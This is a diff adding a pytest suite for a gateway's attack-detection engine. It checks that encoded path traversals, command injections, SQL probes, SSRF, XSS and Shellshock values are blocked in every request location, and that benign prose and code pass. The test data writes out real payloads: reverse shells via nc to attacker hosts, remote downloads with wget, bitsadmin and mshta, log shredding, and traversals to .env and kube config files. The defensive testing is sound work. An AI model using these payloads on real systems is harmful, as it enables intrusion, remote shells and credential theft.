@@ -1,0 +1,356 @@
+"""Attack classes rather than strings: each class is written several ways, of our own
+invention, and placed in every location a request has; benign look-alikes of each class
+must pass. (Issue 19: the held-out corpus showed these classes getting through.)"""
+
+from __future__ import annotations
+
+import json
+from urllib.parse import quote
+
+import pytest
+from detection_helpers import make_request
+
+from bastion.stages.detection import DetectionEngine
+from bastion.types import Request
+
+
+def placements(payload: str, *, encoded: bool = False) -> dict[str, Request]:
+    """``payload`` as a JSON field, a query value, a form field, a cookie, a custom header
+    and a path segment. ``encoded``: the payload is already URL-encoded (an evasion), so
+    it is sent as is where a URL or form carries it, and as text in JSON and headers."""
+    enc = payload if encoded else quote(payload, safe="")
+    return {
+        "json": make_request(
+            "/v1/notes", method="POST", body=json.dumps({"note": {"file": payload}}), content_type="application/json"
+        ),
+        "query": make_request(f"/v1/files?name={enc}&page=2"),
+        "form": make_request(
+            "/v1/notes", method="POST", body=f"title=x&file={enc}", content_type="application/x-www-form-urlencoded"
+        ),
+        "cookie": make_request("/v1/me", headers=[("Cookie", f"theme=dark; last={enc}")]),
+        "header": make_request("/v1/me", headers=[("X-Template", payload)]),
+        "path": make_request(f"/v1/files/{enc}/meta"),
+    }
+
+
+def blocked_everywhere(engine: DetectionEngine, payload: str, category: str, *, encoded: bool = False) -> None:
+    for where, request in placements(payload, encoded=encoded).items():
+        verdict = engine.evaluate(request)
+        assert verdict.block_category == category, (payload, where, verdict.log_record())
+
+
+def passes_everywhere(engine: DetectionEngine, text: str, *, encoded: bool = False) -> None:
+    for where, request in placements(text, encoded=encoded).items():
+        if where in ("header", "cookie", "path") and ("\n" in text or ";" in text):
+            continue  # cannot be sent there as is
+        verdict = engine.evaluate(request)
+        assert verdict.block_category is None, (text, where, verdict.log_record())
+
+
+# ------------------------------------------------------------------ 1. encoded traversal
+#: A traversal whose dots and slashes are written the ways lenient decoders accept.
+ENCODED_TRAVERSALS = [
+    "%c0%2e%c0%2e%c0%2fconfig",  # overlong, lax continuation bytes
+    "%e0%80%ae%e0%80%ae%e0%80%afapp.yml",  # three-byte overlong
+    "..%f0%80%80%afsecrets",  # four-byte overlong slash
+    "%uff0e%uff0e%u2216web.config",  # %u: fullwidth dots, set minus
+    "%u002e%u002e/",  # %u of plain dots, a bare traversal
+    "..%bg%qfreports",  # IIS lax hex digits
+    "..%c0%9vuploads",  # lax hex continuation
+    "%25c0%25ae%25c0%25ae%25c0%25afdata",  # double-encoded overlong
+    "%252e%252e%255cboot",  # double-encoded, backslash
+    "..%c1%9c..%c1%9cinetpub",  # overlong backslash
+]
+
+
+@pytest.mark.parametrize("payload", ENCODED_TRAVERSALS)
+def test_encoded_traversal_is_blocked_in_every_location(engine: DetectionEngine, payload: str) -> None:
+    """A single parent-directory step is blocked however its dots and slashes are encoded
+    (overlong UTF-8 of any length, %u, IIS's lax hex, double encoding), in every location:
+    the encoding itself is the evasion, and with the traversal it decodes to, it blocks."""
+    blocked_everywhere(engine, payload, "path_traversal", encoded=True)
+
+
+@pytest.mark.parametrize(
+    "payload",
+    ["..\u2215..\u2215etc\u2215hostname", "....//....//var/log/app.log", "..;/..;/manager/html"],
+)
+def test_traversal_spellings_that_normalise_to_dot_dot_slash(engine: DetectionEngine, payload: str) -> None:
+    """Look-alike slashes as text, "....//" (what a filter deleting "../" once leaves as
+    "../") and "..;/" (servlet containers drop the ";param") are traversals too."""
+    blocked_everywhere(engine, payload, "path_traversal")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "50%off today only, 100%good",
+        "see ../docs/setup.md",
+        "caf%C3%A9 cr%C3%A8me br%C3%BBl%C3%A9e",
+        "1\u20442 cup of sugar, ¼ of the butter",
+        "redirect=https%3A%2F%2Fexample.com%2Fa%252Fb",
+        "..%2Fimages",
+    ],
+)
+def test_encoding_look_alikes_pass(engine: DetectionEngine, text: str) -> None:
+    """Percent signs in prose, a relative link, URL-encoded accents, a typographic fraction,
+    a nested encoded URL and one URL-encoded parent step (how clients encode a relative
+    path) are not traversals."""
+    passes_everywhere(engine, text, encoded=True)
+
+
+# ------------------------------------------------- 2. a line break is not a shell by itself
+#: Text with ordinary words on their own lines that are also command names.
+LINES_OF_PROSE_AND_CODE = [
+    "query Order($id: ID!) {\n  order(id: $id) {\n    id\n    status\n    items { id sku }\n  }\n}",
+    "fragment Who on Account {\n  id\n  handle\n}",
+    "## Install\n\n```sh\npip install bastion-client\n```\n\nThen import it.",
+    "Hello,\nI'd like to move my delivery to Friday.\nThanks, Aoife",
+    "Hi\nId like a refund for order 1182 please",
+    "Hola,\nsu pedido ha salido hoy.\nSaludos",
+    "Bonjour,\nJe voudrais annuler ma commande.\nCordialement",
+    "Hallo,\nich möchte die Adresse ändern.\nDanke",
+    "Olá,\nid do pedido: 5521\nobrigado",
+    "Notes:\nping me when you are back\nrev up the demo for Monday\nsh, the baby is asleep",
+    "Columns\nid\nname\ncreated_at",
+    "TODO\nls\n",
+    "Hello\nID 4521 never arrived.\nRev 2 of the board fails too.\nId ... not sure what else",
+]
+
+
+@pytest.mark.parametrize("text", LINES_OF_PROSE_AND_CODE)
+def test_words_on_their_own_line_are_not_commands(engine: DetectionEngine, text: str) -> None:
+    """A line break followed by a word that happens to name a command ("id" in a GraphQL
+    selection set, "I'd like" with its apostrophe removed, "su" in Spanish, "ping me") is
+    prose or code, not a shell: it passes in a JSON field, a query and a form field."""
+    passes_everywhere(engine, text)
+
+
+@pytest.mark.parametrize(
+    "payload",
+    [
+        "report.pdf\nid -a",
+        "report.pdf\nuname -a",
+        "eu-west\nping -c 4 10.1.2.3",
+        "eu-west\nping 10.9.8.7",
+        "x\nnc 198.51.100.7 9001 -e /bin/sh",
+        "x\nwget files.example.net/run.sh",
+        "ticket 42\nwhoami",
+        "x;id",
+        "x; id;",
+        "x|id|",
+        "x | nc attacker.example 9001",
+        "x&& ping -n 3 127.0.0.1",
+        "1;uname -a #",
+        "a `id` b",
+        "a $(whoami) b",
+        "x;sleep 7",  # time-based probes
+        "x & timeout 9 &",
+        "x|printf 1337",
+        "x; shred -u /var/log/auth.log",  # any program with shell arguments
+        "x && kill -9 1",
+        "x | xargs -0 -n1 rm",
+        "x; lsblk $HOME",
+        "x;grep -r secret /home/",
+    ],
+)
+def test_commands_with_arguments_or_operators_are_blocked(engine: DetectionEngine, payload: str) -> None:
+    """A command that reads as one (an option, an address, a path, a host name, an operator
+    after it, or the end of the value after a line break) is still command injection."""
+    for where in ("json", "query", "form"):
+        verdict = engine.evaluate(placements(payload)[where])
+        assert verdict.block_category == "cmdi", (payload, where, verdict.log_record())
+
+
+# ------------------------------------------------------ 3. command chains and SQL probes
+@pytest.mark.parametrize(
+    "payload",
+    [
+        "|| /sbin/ip addr|",
+        "&& tasklist /svc",
+        "; netstat -tulpn",
+        "&&/usr/local/bin/node -e 1",
+        ";lsof -i :22",
+        "||C:\\Windows\\System32\\systeminfo.exe >x",
+        ";print_r(scandir('.'));//",
+        "');assert(getenv('HOME'));#",
+    ],
+)
+def test_command_chained_at_the_start_of_a_value_is_blocked(engine: DetectionEngine, payload: str) -> None:
+    """A value that starts with a chain operator (``||``, ``&&``, ``;``) and then a program
+    with an argument or an operator, a program in a bin directory, or a statement break
+    and a function call, is command injection whatever the program's name."""
+    for where in ("json", "query", "form", "header"):
+        verdict = engine.evaluate(placements(payload)[where])
+        assert verdict.block_category is not None, (payload, where, verdict.log_record())
+        assert "cmdi" in {h.rule.category for h in verdict.hits}, (payload, where)
+
+
+@pytest.mark.parametrize(
+    "payload",
+    [
+        "7 or right(user(),2)='ot'",  # a word-named function compared, after a literal
+        "0' and count(1) > 0 and '1'='1",
+        "2 and hex(mid(database(),1,1))>30",
+        "1 or @@hostname is not null",  # a system variable as an operand
+        "select @@datadir",
+        "select pg_backend_pid()",
+        "select sqlite_version()",
+        "x' union select table_name from user_tables--",  # system catalogues
+        "select colname from syscat.columns",
+        "select rdb$relation_name from rdb$relations",
+        "select name from sys.sql_logins",
+        "1 union select * from(information_schema.columns)",
+        "'||dbms_xmlgen.getxml('select 1')||'",  # a package call concatenated into a string
+        "'||(select user from dual)||'",
+        "'||lower(version())||'",
+        "note');create view v as select * from users;--",  # stacked DDL after a quote
+        "x'; grant all on t to public;--",
+        "\" or id=id --",  # a comparison of identifiers, then a comment
+        "') or (pass<>pass)#",
+        "x' and starts_with(passwd,'a')::int=1--",  # a PostgreSQL cast with another SQL signal
+        "1 or '{\"role\":\"admin\"}'::jsonb <@ '{}'::jsonb",
+        "'+convert(varchar,@@servername)+'",  # SQL Server's "+" concatenation
+        "n' + @@language + '",
+        "root'--",  # a quoted value cut off by a comment at its end
+        "') or true--",
+        "z' AND deleted_at IS NULL; --",
+        "' having 1=1 --",
+    ],
+)
+def test_sql_probes_are_blocked_as_classes(engine: DetectionEngine, payload: str) -> None:
+    """Short SQL probes, by class: a boolean whose operand is an SQL function call or a
+    system variable, SELECT of the server's identity, SELECT from a system catalogue of any
+    engine, a string concatenated with a call, a stacked DDL/DCL statement after a quote,
+    a quote break into any comparison followed by a comment. Each in JSON, query and form."""
+    for where in ("json", "query", "form", "cookie"):
+        verdict = engine.evaluate(placements(payload)[where])
+        assert verdict.block_category == "sqli", (payload, where, verdict.log_record())
+
+
+#: Prose and code that share words and shapes with the classes above.
+SQL_AND_SHELL_LOOK_ALIKES = [
+    "Turn left and right (carefully) at the second junction.",
+    "Add the app version and user (optional) to the report.",
+    "Or if (you prefer) we can call you back tomorrow.",
+    "Please select the commit from master.",
+    "Select a plan from dual-band routers or tri-band ones.",
+    "To select modules from sys.modules in Python, use a loop.",
+    "Select your database (Postgres or MySQL) from the list.",
+    "if x and len(items) > 3:\n    print('many')",
+    "def f(a, b):\n    return a and lower(b) == 'x'",
+    "const name = user.name || 'anonymous';",
+    "&& is the logical and of C; || is its or.",
+    "; comment line of an ini file\nkey = value",
+    "Use left(s, 3) to take the first three characters in Excel.",
+    "I said 'no'; creating tables is not my job",
+    "Wählen Sie links oder rechts (bitte) und dann die Version.",
+    "Choisissez la version (ou l'utilisateur) dans la liste.",
+    "Seleccione la base de datos (MySQL o Postgres) de la lista.",
+    ";-) see you",
+    "Steps: clone the repo; run make --debug when it fails",
+    "Prices & rates -- see the table; page 5 has more",
+    "SELECT now()::date AS today;",
+    "std::string s; Foo::bar(); 'a'::b in Rust is not valid",
+    "I'm learning C#",
+    "const s = 'Total: ' + count(items) + \" items\";",
+    "It's fine --",
+    "Don't forget -- use code SPRING24",
+]
+
+
+@pytest.mark.parametrize("text", SQL_AND_SHELL_LOOK_ALIKES)
+def test_sql_and_shell_look_alikes_pass(engine: DetectionEngine, text: str) -> None:
+    """Function-like words in prose ("and right (carefully)"), Python and JavaScript
+    operators, SELECT ... FROM in English, a leading ';' in an ini file: not injections."""
+    passes_everywhere(engine, text)
+
+
+# ------------------------------------------------------------- 4. payloads in a path segment
+def path_with(payload: str) -> str:
+    """``payload`` as one segment of a path the gateway's target parser accepts: characters
+    a path may not carry are escaped, its own slashes are not (an encoded slash is refused)."""
+    from bastion.routing.target import normalize_target
+
+    target = "/v1/files/" + quote(payload, safe="/-._~!$&'()*+,;=:@") + "/meta"
+    normalize_target(target.encode())  # raises if the gateway would refuse it with 400
+    return target
+
+
+@pytest.mark.parametrize(
+    ("payload", "category"),
+    [
+        ("; bitsadmin /transfer j http://files.example.net/a.exe", "cmdi"),
+        ("&& mshta http://x.example/a.hta", "cmdi"),
+        ("|| /usr/local/bin/php -r phpinfo();", "cmdi"),
+        ("1 or hex(database())>0", "sqli"),
+        ("' union select password from users/*", "sqli"),
+        ("..;/..;/manager/html", "path_traversal"),
+        ("http://169.254.169.254/latest/meta-data/", "ssrf"),
+        ("<svg/onload=alert(document.domain)>", "xss"),
+    ],
+)
+def test_path_segment_is_inspected_as_strongly_as_a_query_value(
+    engine: DetectionEngine, payload: str, category: str
+) -> None:
+    """An attack placed in a path segment, with its own slashes splitting it across
+    segments, is blocked as it is in a query value: the rest of the path from the segment
+    where it starts is an input too, so rules anchored at the start of a value see it."""
+    query = engine.evaluate(make_request("/v1/files?name=" + quote(payload, safe="")))
+    path = engine.evaluate(make_request(path_with(payload)))
+    assert query.block_category == category, query.log_record()
+    assert path.block_category == category, (path_with(payload), path.log_record())
+
+
+def test_plain_api_paths_add_no_inputs() -> None:
+    """A path of names and IDs has its whole and its segments as inputs, nothing more; a
+    segment with payload characters adds the path from there (named ``path:N..``)."""
+    from bastion.stages.detection.inspect import extract
+
+    plain = [i.location for i in extract(make_request("/v1/users/42/orders/7f3a-b2")) if i.location.startswith("path")]
+    assert plain == ["path", "path:0", "path:1", "path:2", "path:3", "path:4"]
+    odd = [(i.location, i.value) for i in extract(make_request("/v1/x/;%20ls/tmp/y"))]
+    assert ("path:2..", ";%20ls/tmp/y") in odd
+
+
+@pytest.mark.parametrize(
+    "payload",
+    ["() { _; } >_[$($())] { id; }", "() { 0; }; uname -a", "(){ x;}; true", "()  {  :; } ; printenv"],
+)
+def test_value_starting_as_a_bash_function_is_blocked(engine: DetectionEngine, payload: str) -> None:
+    """Bash imports a variable whose value starts with "() {" as a function (Shellshock and
+    its parser variants), whatever the body: such a value is blocked in a header, a cookie,
+    a query and a JSON field."""
+    for where in ("header", "cookie", "query", "json"):
+        verdict = engine.evaluate(placements(payload)[where])
+        assert verdict.block_category == "cmdi", (payload, where, verdict.log_record())
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Operators:\n&& chains on success\n|| chains on failure\n; always",
+        "const f = () => { return 1; };",
+        "f() { echo hi; }",
+        "SELECT first_name\n  || ' '\n  || last_name AS name\nFROM people;",
+    ],
+)
+def test_chains_on_a_later_line_of_code_pass(engine: DetectionEngine, text: str) -> None:
+    """The start-of-value classes hold at the start of the value only, not of each line:
+    notes listing shell operators line by line, an arrow function, a shell function, SQL
+    concatenating on new lines are text and code, in a JSON field and a form field."""
+    for where in ("json", "form"):
+        verdict = engine.evaluate(placements(text)[where])
+        assert verdict.block_category is None, (text, where, verdict.log_record())
+
+
+@pytest.mark.parametrize("payload", ["../.env", "..%c0%af.npmrc", "..\\.kube\\config", "../.psql_history"])
+def test_one_parent_step_to_a_credential_file_is_blocked(engine: DetectionEngine, payload: str) -> None:
+    """One parent step to a file that holds credentials (an env file, a shell or database
+    history, a registry or cluster config) is a traversal, however the step is encoded."""
+    blocked_everywhere(engine, payload, "path_traversal", encoded=True)
+
+
+def test_credential_file_names_in_prose_pass(engine: DetectionEngine) -> None:
+    """Naming such a file in text, even as a path, is not a traversal."""
+    passes_everywhere(engine, "Copy .env.example to .env, then see config/.env for the keys")
